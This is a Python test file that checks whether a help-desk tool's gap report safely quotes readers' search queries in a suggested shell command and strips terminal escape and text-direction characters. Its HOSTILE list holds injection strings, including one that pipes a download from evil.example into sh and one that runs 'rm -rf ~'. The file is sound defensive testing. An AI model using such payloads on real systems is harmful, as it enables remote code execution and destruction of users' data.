"""Attacks on `carebase report gaps` through what readers typed: a query is untrusted text that
ends up in a terminal and in a command a person copies into a shell."""

from __future__ import annotations

import shlex

from carebase.gaps.model import Gap, Kind, Sighting, merge
from carebase.gaps.report import Answers, format_line, lines
from carebase.manifest import Manifest

HOSTILE = [
    "refund'; curl https://evil.example/x | sh; echo '",
    "$(rm -rf ~) `reboot` refund",
    "refund\x1b[2J\x1b]0;owned\x07 now",
    "refund \u202eevil\u202c and\r\nfake line",
]


def report(queries: list[str]) -> list[str]:
    sightings = [Sighting(query, Kind.NO_RESULTS, 1) for query in queries]
    answers = Answers(Manifest("https://help.example/", "2026-11-23"), "en")
    gaps = merge(sightings, "en")
    printed = lines(gaps, answers, author="priya", fallback_category="billing", languages=["en"])
    return [text for number, line in enumerate(printed, 1) for text in format_line(number, line)]


def test_a_query_cannot_inject_shell_words_into_the_suggested_command() -> None:
    output = report(HOSTILE[:2])
    commands = [line.strip() for line in output if line.strip().startswith("carebase ")]
    assert len(commands) == 2
    for command in commands:
        words = shlex.split(command)
        assert words[:3] == ["carebase", "new", "faq"]
        assert words[4:] == ["--category", "billing", "--author", "priya", "--lang", "en"]
    titles = sorted(shlex.split(command)[3] for command in commands)
    assert titles == sorted(query[:1].upper() + query[1:] for query in HOSTILE[:2])


def test_control_and_direction_characters_never_reach_the_terminal() -> None:
    output = "\n".join(report(HOSTILE[2:]))
    assert not any(ord(char) < 32 and char != "\n" for char in output)
    assert "\x1b" not in output and "\u202e" not in output and "\r" not in output
    assert len(output.splitlines()) == 6  # Two questions, three lines each: no forged line.


def test_a_gap_keeps_its_most_typed_spelling() -> None:
    gaps = merge(
        [Sighting("Refund?", Kind.NO_CLICK, 1), Sighting("refund", Kind.NO_RESULTS, 2)], "en"
    )
    assert gaps == [Gap("refund", "en", {Kind.NO_CLICK: 1, Kind.NO_RESULTS: 2}, gaps[0]._spellings)]
